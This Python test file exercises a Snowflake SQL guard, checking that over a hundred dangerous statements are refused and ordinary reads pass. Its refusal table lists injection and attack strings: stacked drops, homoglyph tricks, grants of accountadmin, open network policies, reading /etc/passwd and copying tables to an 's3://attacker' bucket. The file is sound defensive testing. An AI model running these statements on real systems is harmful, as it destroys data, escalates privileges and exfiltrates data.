"""Table-driven tests of the SQL guard: statements that must be refused and reads that must pass."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sophia_snowflake.policy import (
    DML_KINDS,
    READ_KINDS,
    GuardedStatement,
    SqlRefused,
    SqlSyntaxError,
    StatementKind,
    authorise,
    page_sql,
    parse_statement,
)
from sophia_snowflake.sql_functions import refusal_reason
from sqlglot import exp

# Every one of these must be refused by snowflake_query, whatever the caller's role (admin included).
REFUSED_BY_READ_TOOL: list[str] = [
    # stacked statements
    "select 1; drop table orders",
    "select 1; delete from orders",
    "select * from orders; insert into orders values (1)",
    "select 1;select 2",
    "show tables; drop table orders",
    "select 1 /* ; */ ; drop table orders",
    "select 1 -- comment\n; drop table orders",
    "select 1 // comment\n; truncate table orders",
    "select 'a;b'; update orders set amount = 0",
    "select $$;$$; drop table orders",
    "describe table orders; drop table orders",
    "select 1;\n\ncommit",
    # comment and string tricks
    "/* select */ delete from orders",
    "-- select 1\ndelete from orders",
    "// select\ndrop table orders",
    "delete /* select */ from orders",
    "drop table orders -- ; select 1",
    "select 1 /* /* */ ; drop table orders */",
    "/*/ select 1 /*/ drop table orders",
    "update orders set note = 'select 1' where 1=1",
    "insert into orders select * from orders where note = '; select'",
    "delete from orders where note = $$select$$",
    # plain DML and DDL
    "insert into orders values (1, 2, 3)",
    "insert into orders (id) select id from customers",
    "insert overwrite into orders select * from orders",
    "insert all into a values (1) into b values (2) select 1",
    "update orders set amount = 0",
    "delete from orders",
    "merge into orders o using customers c on o.id = c.id when matched then delete",
    "merge into orders using (select 1 id) s on orders.id = s.id when not matched then insert (id) values (s.id)",
    "create table x (a int)",
    "create or replace table orders as select 1 a",
    "create temporary table x as select * from orders",
    "create view v as select * from orders",
    "create stage s url='s3://attacker/bucket'",
    "create function f() returns int as '1'",
    "create procedure p() returns int language sql as 'begin return 1; end'",
    "drop table orders",
    "drop database demo",
    "drop schema demo.public",
    "drop view v",
    "drop stage s",
    "alter table orders add column b int",
    "alter table orders rename to o2",
    "alter warehouse w suspend",
    "alter warehouse w set warehouse_size = 'X6LARGE'",
    "truncate table orders",
    "truncate orders",
    "undrop table orders",
    "comment on table orders is 'x'",
    "grant select on table orders to role public",
    "grant role accountadmin to user mallory",
    "revoke select on table orders from role analyst",
    "grant ownership on database demo to role public",
    # CTEs and subqueries wrapping writes
    "with x as (delete from orders returning *) select * from x",
    "with x as (select 1) delete from orders",
    "with x as (select 1) insert into orders select * from x",
    "select * into orders_copy from orders",
    "select * from orders for update",
    # transaction control
    "begin",
    "begin transaction",
    "start transaction",
    "commit",
    "commit work",
    "rollback",
    "rollback work",
    "end",
    "abort",
    # scripting and dynamic SQL
    "execute immediate 'drop table orders'",
    "execute immediate $$ begin drop table orders; end $$",
    "EXECUTE IMMEDIATE :stmt",
    "execute task t",
    "begin drop table orders; end",
    "begin\n  select 1;\nend",
    "declare c cursor for select 1; begin return 1; end",
    "declare x int default 1; begin return x; end",
    "let x := 1",
    "call p()",
    "call system$wait(10)",
    "CALL admin.cleanup('orders')",
    # file transfer and copy (exfiltration through stages)
    "put file:///etc/passwd @~",
    "put file:///tmp/x.csv @%orders",
    "get @~ file:///tmp/",
    "get @s/secret.csv file:///tmp",
    "remove @~/x",
    "rm @s",
    "list @~",
    "ls @s",
    "copy into @s from orders",
    "copy into 's3://attacker/x' from orders credentials=(aws_key_id='a' aws_secret_key='b')",
    "copy into orders from @s",
    "select * from @s",
    "select $1 from @s/x.csv",
    "select t.$1 from @~ t",
    # session, account, role
    "alter session set query_tag = 'x'",
    "alter session set multi_statement_count = 0",
    "alter session set statement_timeout_in_seconds = 0",
    "alter session unset query_tag",
    "alter account set network_policy = open",
    "alter account set require_storage_integration_for_stage_creation = false",
    "use role accountadmin",
    "use secondary roles all",
    "use database demo",
    "use schema demo.public",
    "use warehouse compute_wh",
    "use demo",
    "set x = 1",
    "set (a, b) = (1, 2)",
    "unset x",
    # users, roles, network policies, integrations
    "create user mallory password='p'",
    "alter user alice set password='x'",
    "alter user alice set disabled = false",
    "drop user alice",
    "create role r",
    "drop role analyst",
    "alter role analyst rename to a2",
    "create network policy open allowed_ip_list=('0.0.0.0/0')",
    "alter network policy p set allowed_ip_list=('0.0.0.0/0')",
    "create storage integration i type = external_stage storage_provider = 's3' enabled = true",
    "create api integration i api_provider = aws_api_gateway enabled = true",
    "create share s",
    "create secret s type = password username = 'a' password = 'b'",
    # side-effecting functions inside reads
    "select system$cancel_all_queries(1)",
    "select system$abort_session(1)",
    "select system$send_email('int', 'a@b.c', 's', 'body')",
    "select system$cancel_query('01a')",
    "select system$set_return_value('x')",
    "select * from orders where system$abort_transaction(1) is null",
    "select (select system$cancel_all_queries(1))",
    # look-alike unicode and invisible characters
    "sеlect 1",  # Cyrillic e
    "ＳＥＬＥＣＴ 1",  # fullwidth
    "select 1；drop table orders",  # fullwidth semicolon
    "ѕelect * from orders",  # Cyrillic dze
    "select * from оrders",  # Cyrillic o in a bare name
    "select 1\u200b; drop table orders",
    "select 1 \u202e; drop table orders",
    "select '\u202e' from orders",
    "select\u00a01",  # non-breaking space
    "select 1\ufeff",
    "select 1 \u2028",
    "d\u0435lete from orders",
    # explain of a write, unknown and unparseable
    "explain delete from orders",
    "explain using json insert into orders values (1)",
    "explain using text drop table orders",
    "",
    "   ",
    ";",
    "-- only a comment",
    "select from where",
    "selec 1",
    "drop",
    "vacuum",
    "show grants to role analyst; drop table orders",
    "show parameters like '%'; commit",
]

# Every one of these is a legitimate read and must pass the read tool for every role.
ALLOWED_READS: list[str] = [
    "select 1",
    "SELECT * FROM orders",
    "select id, amount from orders where amount > 10 order by id limit 5",
    "with big as (select * from orders where amount > 100) select count(*) from big",
    "with recursive r as (select 1 n union all select n + 1 from r where n < 3) select * from r",
    "select 1 union all select 2",
    "select id from orders intersect select id from customers",
    "select id from orders except select id from customers",
    "(select 1)",
    "select c.name, sum(o.amount) from customers c join orders o on o.customer_id = c.id group by c.name",
    "select * from orders qualify row_number() over (partition by customer_id order by id) = 1",
    "select iff(amount > 0, 'pos', 'neg'), nvl(note, '-') from orders",
    "select dateadd(day, 1, current_date())",
    "select parse_json('{\"a\": 1}'):a::int",
    "select value from table(flatten(input => parse_json('[1,2,3]')))",
    "select * from table(generator(rowcount => 10))",
    "select seq4() from table(generator(rowcount => 3))",
    "select * from orders sample (10)",
    "select * from orders at(offset => -60)",
    "select * from demo.public.orders",
    'select * from "My Table"',
    "select * from identifier('orders')",
    "select top 3 * from orders",
    "select * from orders order by id fetch first 5 rows only",
    "select * from orders limit 10 offset 5",
    "select count(*) from demo.information_schema.tables",
    "select * from table(result_scan(last_query_id()))",
    "select system$typeof(1)",
    "select system$clustering_information('orders')",
    # dangerous-looking text inside strings, quoted identifiers and comments
    "select 'drop table orders'",
    "select 'a; drop table orders; --'",
    "select '/* ; delete from orders */'",
    "select $$ ; drop table orders $$",
    "select 'it''s; commit'",
    "select 'x\\'; drop table orders; --'",
    "select * from orders where note = 'commit; rollback'",
    "select * from orders where note like '%execute immediate%'",
    "select 'put file:///etc/passwd @~' as s",
    "select 'copy into @s from t' as s",
    "select 'alter session set x=1' as s",
    "select 'use role accountadmin' as s",
    'select 1 as "drop table orders"',
    'select 1 as "; delete from orders"',
    "select 1 -- ; drop table orders",
    "select 1 /* ; drop table orders */",
    "/* delete from orders; */ select 1",
    "-- drop table orders\nselect 1",
    "select 1 // drop table orders",
    "select 1;",
    "select 1; -- trailing comment",
    "select 'ДРОП ТАБЛИЦУ' as note",
    'select 1 as "Заказы"',
    "select 'ＳＥＬＥＣＴ'",
    "select 'café' from orders",
    # metadata reads
    "show tables",
    "show terse tables in schema demo.public",
    "show schemas in database demo",
    "show databases",
    "show tables like '%ord%'",
    "show users",
    "show parameters",
    "show grants to role analyst",
    "describe table orders",
    "desc table orders",
    "desc orders",
    "explain select * from orders",
    "explain using json select * from orders",
    "explain using text select 1",
    "show tables -- ; drop table orders",
    "show tables /* ; drop table orders */",
    "show parameters -- ; drop table orders",
]


@pytest.mark.parametrize("sql", REFUSED_BY_READ_TOOL)
@pytest.mark.parametrize("role", ["viewer", "admin"])
def test_read_tool_refuses(sql: str, role: str) -> None:
    with pytest.raises((SqlRefused, SqlSyntaxError)):
        statement = parse_statement(sql)
        authorise(statement, role, read_tool=True)


@pytest.mark.parametrize("sql", ALLOWED_READS)
@pytest.mark.parametrize("role", ["viewer", "developer", "devops", "admin"])
def test_read_tool_allows(sql: str, role: str) -> None:
    statement = parse_statement(sql)
    authorise(statement, role, read_tool=True)
    assert statement.is_read


def test_tables_are_large_enough() -> None:
    assert len(REFUSED_BY_READ_TOOL) >= 100
    assert len(ALLOWED_READS) >= 50
    assert len(set(REFUSED_BY_READ_TOOL)) == len(REFUSED_BY_READ_TOOL)
    assert len(set(ALLOWED_READS)) == len(ALLOWED_READS)


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("insert into orders values (1)", StatementKind.INSERT),
        ("update orders set a = 1", StatementKind.UPDATE),
        ("delete from orders", StatementKind.DELETE),
        ("merge into t using s on t.id = s.id when matched then delete", StatementKind.MERGE),
        ("create table x (a int)", StatementKind.DDL),
        ("alter warehouse w suspend", StatementKind.DDL),
        ("grant select on table orders to role r", StatementKind.GRANT),
        ("put file:///x @~", StatementKind.FILE_TRANSFER),
        ("get @~ file:///tmp", StatementKind.FILE_TRANSFER),
        ("copy into t from @s", StatementKind.COPY),
        ("call p()", StatementKind.CALL),
        ("execute immediate 'select 1'", StatementKind.EXECUTE),
        ("alter session set query_tag = 'x'", StatementKind.ALTER_SESSION),
        ("alter account set x = 1", StatementKind.ALTER_ACCOUNT),
        ("use role accountadmin", StatementKind.USE),
        ("commit", StatementKind.TRANSACTION),
        ("begin", StatementKind.TRANSACTION),
        ("create user u", StatementKind.SECURITY),
        ("drop role r", StatementKind.SECURITY),
        ("create network policy p allowed_ip_list=('0.0.0.0/0')", StatementKind.SECURITY),
        ("show tables", StatementKind.SHOW),
        ("describe table t", StatementKind.DESCRIBE),
        ("explain select 1", StatementKind.EXPLAIN),
        ("select 1", StatementKind.SELECT),
    ],
)
def test_classification(sql: str, kind: StatementKind) -> None:
    assert parse_statement(sql).kind is kind


@pytest.mark.parametrize("sql", ["insert into orders values (1)", "delete from orders", "update orders set a = 1"])
def test_execute_tool_permissions_by_role(sql: str) -> None:
    statement = parse_statement(sql)
    for role in ("viewer", "developer"):
        with pytest.raises(SqlRefused) as refused:
            authorise(statement, role, read_tool=False)
        assert refused.value.rule == "role_not_allowed"
    authorise(statement, "devops", read_tool=False)
    authorise(statement, "admin", read_tool=False)


def test_ddl_and_grants_need_admin() -> None:
    for sql in ("create table x (a int)", "grant select on table orders to role r", "drop table orders"):
        statement = parse_statement(sql)
        with pytest.raises(SqlRefused):
            authorise(statement, "devops", read_tool=False)
        authorise(statement, "admin", read_tool=False)


@pytest.mark.parametrize(
    "sql",
    [
        "put file:///x @~",
        "copy into @s from orders",
        "call p()",
        "execute immediate 'select 1'",
        "alter session set query_tag = 'x'",
        "use role accountadmin",
        "commit",
        "create user u",
    ],
)
def test_dangerous_kinds_never_run_without_the_admin_setting(sql: str) -> None:
    statement = parse_statement(sql)
    with pytest.raises(SqlRefused) as refused:
        authorise(statement, "admin", read_tool=False)
    assert refused.value.rule == "never_allowed"
    # the explicit admin setting enables exactly the listed kind, for admins only, never via the read tool
    authorise(statement, "admin", read_tool=False, admin_dangerous_kinds=[statement.kind])
    with pytest.raises(SqlRefused):
        authorise(statement, "devops", read_tool=False, admin_dangerous_kinds=[statement.kind])
    with pytest.raises(SqlRefused):
        authorise(statement, "admin", read_tool=True, admin_dangerous_kinds=[statement.kind])


def test_execute_tool_refuses_reads() -> None:
    with pytest.raises(SqlRefused) as refused:
        authorise(parse_statement("select 1"), "admin", read_tool=False)
    assert refused.value.rule == "execute_is_for_writes"


def test_configured_permissions_replace_the_defaults() -> None:
    statement = parse_statement("insert into orders values (1)")
    permissions = {"developer": READ_KINDS | DML_KINDS, "devops": READ_KINDS}
    authorise(statement, "developer", read_tool=False, permissions=permissions)
    with pytest.raises(SqlRefused):
        authorise(statement, "devops", read_tool=False, permissions=permissions)


def test_what_runs_is_the_checked_tree_without_comments() -> None:
    statement = parse_statement("select 1 /* ; drop table orders */ -- x\n")
    assert statement.sql == "SELECT 1"
    assert "drop" not in parse_statement("select 1 // drop table orders").sql.lower()


def test_syntax_errors_carry_position() -> None:
    with pytest.raises(SqlSyntaxError) as error:
        parse_statement("select from where")
    assert error.value.line == 1
    assert error.value.column is not None and error.value.column > 0


@pytest.mark.parametrize(
    ("sql", "offset", "limit", "expected"),
    [
        ("select a from t order by a", 0, 10, "SELECT a FROM t ORDER BY a LIMIT 10"),
        ("select a from t order by a", 20, 10, "SELECT a FROM t ORDER BY a LIMIT 10 OFFSET 20"),
        ("select a from t limit 25", 20, 10, "SELECT a FROM t LIMIT 5 OFFSET 20"),
        ("select a from t limit 25", 30, 10, "SELECT a FROM t LIMIT 0 OFFSET 30"),
        ("select a from t limit 5 offset 100", 2, 10, "SELECT a FROM t LIMIT 3 OFFSET 102"),
        ("select 1 union all select 2", 1, 1, "SELECT * FROM (SELECT 1 UNION ALL SELECT 2) AS q LIMIT 1 OFFSET 1"),
    ],
)
def test_page_sql(sql: str, offset: int, limit: int, expected: str) -> None:
    assert page_sql(parse_statement(sql), offset, limit) == expected


def test_show_is_not_pageable() -> None:
    statement: GuardedStatement = parse_statement("show tables")
    assert not statement.pageable
    assert page_sql(statement, 10, 5) == statement.sql


_SQL_PIECES = [
    "select", "from", "where", "delete", "drop", "insert", "into", "with", "as", "(", ")", ";", "'", '"', "$$",
    "/*", "*/", "--", "//", "\n", " ", "1", "t", "@s", "*", ",", "commit", "call", "explain", "show", "tables",
    "execute", "immediate", "begin", "end", "union", "all", "limit", "offset", "\u202e", "е", "=", "||", "::",
]


_FILE_PIECES = ["read_text(", "read_csv(", "'/etc/passwd'", '"x.csv"', "glob(", "parquet_scan(", "duckdb_settings()",
                "current_setting(", "lateral", "table(", "identifier(", "'a.csv'", "setseed(", '"READ_TEXT"(']


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(max_size=200),
        st.lists(st.sampled_from(_SQL_PIECES + _FILE_PIECES), max_size=30).map(" ".join),
    ),
    st.booleans(),
)
def test_the_guard_never_crashes_and_never_lets_a_write_through(text: str, local: bool) -> None:
    try:
        statement = parse_statement(text, local=local)
        authorise(statement, "admin", read_tool=True)
    except (SqlRefused, SqlSyntaxError):
        return
    # whatever passed is a read, and what runs re-parses to the same single read
    assert statement.is_read
    again = parse_statement(statement.sql, local=local)
    assert again.kind is statement.kind
    # and it calls no function that is refused by name
    if statement.tree is not None:
        for node in statement.tree.walk():
            if isinstance(node, exp.Func):
                names = [node.name] if isinstance(node, exp.Anonymous) else list(type(node).sql_names())
                assert all(refusal_reason(name) is None for name in names), statement.sql


def test_deeply_nested_input_is_refused_not_crashed() -> None:
    with pytest.raises((SqlRefused, SqlSyntaxError)):
        parse_statement("select " + "(" * 5000 + "1" + ")" * 5000)
